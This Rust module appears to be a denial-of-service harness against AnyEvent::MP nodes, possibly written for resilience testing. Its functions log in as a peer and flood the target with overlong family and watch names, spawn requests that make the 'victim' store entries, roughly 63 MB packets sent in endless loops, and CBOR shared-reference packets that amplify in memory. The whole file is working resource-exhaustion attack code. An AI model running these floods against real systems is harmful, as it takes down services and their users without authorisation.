//! Packets that grow when they are read or kept.

use std::{fmt::Write as _, io};

use tokio::{io::AsyncWriteExt, net::tcp::OwnedWriteHalf};

use super::{
    Target,
    insiders::{flow, prey},
    origin,
    peer::Peer,
};

/// Somewhat less than the largest packet.
const LARGEST: usize = 63 << 20;
/// A blow, of those that are dealt by the byte.
const BLOW: usize = 1 << 20;

/// Families whose names are as long as they may be, with an entry in each.
pub(super) async fn families(target: Target, number: u32) -> io::Result<()> {
    let peer = Peer::login(&target, origin(number)).await?;
    flow(&target, &mut peer.listen(), |batch, n| {
        let _ = write!(batch, r#"["","g_upd","{n:0>255}",{{"k":1}}]"#);
    })
    .await
}

/// The same, watched.
pub(super) async fn watches(target: Target, number: u32) -> io::Result<()> {
    let peer = Peer::login(&target, origin(number)).await?;
    flow(&target, &mut peer.listen(), |batch, n| {
        let _ = write!(batch, r#"["","g_mon1","{n:0>255}"]"#);
    })
    .await
}

/// Entries that the victim is to set itself.
pub(super) async fn entries(target: Target, number: u32) -> io::Result<()> {
    let peer = Peer::login(&target, origin(number)).await?;
    let (id, text) = (peer.id.clone(), "x".repeat(1000));
    flow(&target, &mut peer.listen(), |batch, n| {
        let _ = write!(
            batch,
            r#"["","AnyEvent::MP::_spawn","{id}/{n}","Soak::entry","{id}/{n}","{text}"]"#
        );
    })
    .await
}

/// Sends a packet, perhaps as far as the victim takes it.
async fn deal(target: &Target, write: &mut OwnedWriteHalf, packet: &[u8]) -> io::Result<()> {
    for part in packet.chunks(BLOW) {
        write.write_all(part).await?;
        target.did(1);
    }
    Ok(())
}

/// A packet of that beginning and end, with as many elements in between as there is room for.
fn filled(begin: &[u8], element: &[u8], end: &[u8], size: usize) -> Vec<u8> {
    let elements = element.repeat(size / element.len());
    [begin, &elements, end].concat()
}

/// A request with nothing but odd elements.
pub(super) async fn odd(target: Target, number: u32) -> io::Result<()> {
    let mut write = Peer::login(&target, origin(number)).await?.listen();
    let packet = filled(br#"["","g_upd","f",null,[[]"#, b",[]", b"]]", LARGEST);
    loop {
        deal(&target, &mut write, &packet).await?;
    }
}

/// References to a list, each of which stands for all of it.
pub(super) async fn references(target: Target, number: u32) -> io::Result<()> {
    let peer = Peer::login_writing(&target, origin(number), "cbor").await?;
    let mut write = peer.listen();
    // ["", "devnull", shared [0, 0, 0], [references]]
    let begin = b"\x84\x60\x67devnull\xd8\x1c\x83\0\0\0\x9f";
    let packet = filled(begin, b"\xd8\x1d\0", b"\xff", 45 << 20);
    loop {
        deal(&target, &mut write, &packet).await?;
    }
}

/// Packets of the largest size: with more values than there may be, as many, and with one.
pub(super) async fn large(target: Target, number: u32) -> io::Result<()> {
    let peer = Peer::login(&target, origin(number)).await?;
    let port = format!("{}/prey", peer.id);
    let mut write = peer.listen();
    prey(&mut write, &port).await?;
    let quick = format!(r#"["{port}","quick",""#).into_bytes();
    let packet = match number % 4 {
        0 => filled(br#"["","My::function",[0"#, b",0", b"]]", LARGEST),
        1 => filled(br#"["","My::function",[0"#, b",[]", b"]]", 3 << 20),
        2 => filled(br#"["","g_upd","f",{"k":[0"#, b",1e0", b"]}]", 1 << 20),
        _ => filled(&quick, b"x", br#""]"#, LARGEST),
    };
    loop {
        deal(&target, &mut write, &packet).await?;
    }
}
